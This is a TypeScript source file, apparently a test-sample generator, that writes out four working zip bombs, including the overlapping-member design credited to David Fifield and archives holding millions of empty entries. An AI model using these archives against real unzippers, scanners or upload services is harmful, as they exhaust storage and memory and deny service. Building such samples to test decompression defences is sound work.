import { crc32 } from 'node:zlib'
import { type Bomb, pieceSize, type Scale } from './bomb.ts'
import { crcAfterZeros } from './crc.ts'
import { deflateOfZeros } from './zeros.ts'
import { directoryEnd, directoryEntry, localHeader, type ZipFacts } from './zip.ts'

/** Zip archives that are larger than they look. */
export const zipBombs: readonly Bomb[] = [
  { name: 'overlap.zip', pieces: overlapping },
  { name: 'same-data.zip', pieces: sameData },
  { name: 'empty-members.zip', pieces: emptyMembers },
  { name: 'empty-members-shared.zip', pieces: emptyShared },
]

/** Bytes of zeros at the end of what every member unpacks to. */
const kernelSize = 2 * pieceSize

/**
 * Every member's data runs through the headers of all that follow to the one kernel of zeros: a stored block quotes the
 * header after it (David Fifield, "A better zip bomb", 2019). No two members are equal.
 */
function* overlapping({ zeros }: Scale): Generator<Uint8Array> {
  const kernel = Buffer.concat([...deflateOfZeros(kernelSize)])
  const members: { facts: ZipFacts; header: Buffer; quote: Buffer }[] = []
  let quoted = Buffer.alloc(0)
  let packed = kernel.length
  for (let left = Math.ceil(zeros / kernelSize); left > 0; left--) {
    const crc = crcAfterZeros(crc32(quoted), kernelSize)
    const facts: ZipFacts = {
      name: `member-${left}`,
      crc,
      packed,
      size: quoted.length + kernelSize,
      method: 8,
    }
    const header = localHeader(facts)
    const quote = Buffer.from([0, header.length, 0, ~header.length & 0xff, 0xff])
    members.unshift({ facts, header, quote })
    quoted = Buffer.concat([header, quoted])
    packed += quote.length + header.length
  }
  const starts: number[] = []
  let offset = 0
  for (const [index, { header, quote }] of members.entries()) {
    const piece = index > 0 ? Buffer.concat([quote, header]) : header
    offset += piece.length
    starts.push(offset - header.length)
    yield piece
  }
  yield kernel
  yield* directoryOf(
    members.map(({ facts }, index) => directoryEntry(facts, starts[index] ?? 0)),
    offset + kernel.length,
  )
}

function* directoryOf(entries: readonly Buffer[], offset: number): Generator<Uint8Array> {
  yield* entries
  yield directoryEnd(entries.length, { size: entries.reduce((sum, entry) => sum + entry.length, 0), offset })
}

/** The older way: every entry of the directory names the same data. */
function* sameData({ zeros }: Scale): Generator<Uint8Array> {
  const data = Buffer.concat([...deflateOfZeros(kernelSize)])
  const crc = crcAfterZeros(0, kernelSize)
  const facts = (name: string): ZipFacts => ({ name, crc, packed: data.length, size: kernelSize, method: 8 })
  const local = localHeader(facts('member-0'))
  yield local
  yield data
  const entries = Array.from({ length: Math.ceil(zeros / kernelSize) }, (_, index) =>
    directoryEntry(facts(`member-${index}`), 0),
  )
  yield* directoryOf(entries, local.length + data.length)
}

/** Members by the million, each with its own header, none with content. */
function* emptyMembers({ count }: Scale): Generator<Uint8Array> {
  let offset = 0
  for (let index = 0; index < count; index++) {
    const header = localHeader(empty(index))
    offset += header.length
    yield header
  }
  let size = 0
  let place = 0
  for (let index = 0; index < count; index++) {
    const entry = directoryEntry(empty(index), place)
    size += entry.length
    place += localHeader(empty(index)).length
    yield entry
  }
  yield directoryEnd(count, { size, offset })
}

/** The same with one header for all: half the size. */
function* emptyShared({ count }: Scale): Generator<Uint8Array> {
  const header = localHeader(empty(0))
  yield header
  const entry = directoryEntry(empty(0), 0)
  for (let index = 0; index < count; index++) yield entry
  yield directoryEnd(count, { size: entry.length * count, offset: header.length })
}

function empty(index: number): ZipFacts {
  return { name: index.toString(36), crc: 0, packed: 0, size: 0, method: 0 }
}
